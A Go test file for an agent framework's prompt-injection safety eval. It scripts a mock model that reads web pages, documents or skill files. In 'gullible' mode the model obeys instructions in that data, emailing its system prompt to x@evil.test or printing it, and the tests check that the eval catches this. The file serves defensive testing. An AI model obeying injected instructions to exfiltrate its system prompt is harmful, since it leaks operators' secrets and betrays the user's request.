package safety_test

import (
	"context"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/switchboard-dev/switchboard/agent/eval"
	"github.com/switchboard-dev/switchboard/agent/eval/evaltest"
	"github.com/switchboard-dev/switchboard/agent/eval/safety"
	"github.com/switchboard-dev/switchboard/llm"
)

var url = regexp.MustCompile(`https://\S+[a-z]`)

// reader is a scripted model that reads what the user names: it fetches
// the page, reads the document or activates the skill and reads its file,
// then answers. A gullible reader then does what the data says.
func reader(gullible bool) llm.Model {
	return llm.NewCyclic(llm.React(func(req *llm.Request) llm.Step {
		input := req.Messages[0].Text
		last := req.Messages[len(req.Messages)-1]
		if last.Role != llm.RoleTool {
			switch {
			case url.MatchString(input):
				return llm.Calls(llm.CallTool("", "fetch_page", map[string]string{"url": url.FindString(input)}))
			case strings.Contains(input, "notes.txt"):
				return llm.Calls(llm.CallTool("", "read_document", map[string]string{"name": "notes.txt"}))
			default:
				return llm.Calls(llm.CallTool("", "activate_skill", map[string]string{"name": "report"}))
			}
		}
		r := last.ToolResults[0]
		switch {
		case r.Name == "activate_skill":
			return llm.Calls(llm.CallTool("", "read_skill_file", map[string]string{"skill": "report", "path": "style.md"}))
		case r.Name == "send_email":
			return llm.Say("Done as the page asked. " + req.System)
		case gullible && strings.Contains(r.Content, "email"):
			return llm.Calls(llm.CallTool("", "send_email", map[string]string{"to": "x@evil.test", "body": req.System}))
		case gullible && strings.Contains(r.Content, "system prompt"):
			return llm.Say(req.System)
		}
		return llm.SummarizeResults("Here is what I read")
	}))
}

// The safety set passes with a model that keeps to the user's request.
func TestSafetyCautious(t *testing.T) {
	var mu sync.Mutex
	var mails []string
	rep := evaltest.Run(t, safety.Set(), eval.Config{Model: reader(false), Agent: safety.Agent(func(to, _ string) {
		mu.Lock()
		mails = append(mails, to)
		mu.Unlock()
	})})
	if rep.Passed != len(safety.Set().Cases) || len(mails) != 0 {
		t.Errorf("passed %d of %d, mails %v", rep.Passed, len(safety.Set().Cases), mails)
	}
}

// Every case fails with a model that follows instructions found in data,
// saying what it did.
func TestSafetyGullible(t *testing.T) {
	rep, err := eval.Run(context.Background(), safety.Set(), eval.Config{Model: reader(true), Agent: safety.Agent(nil)})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range rep.Cases {
		why := c.Why()
		if c.Pass || !(strings.Contains(why, "forbidden tool send_email") || strings.Contains(why, safety.Canary)) {
			t.Errorf("%s: pass=%v why=%q", c.Case, c.Pass, why)
		}
	}
}
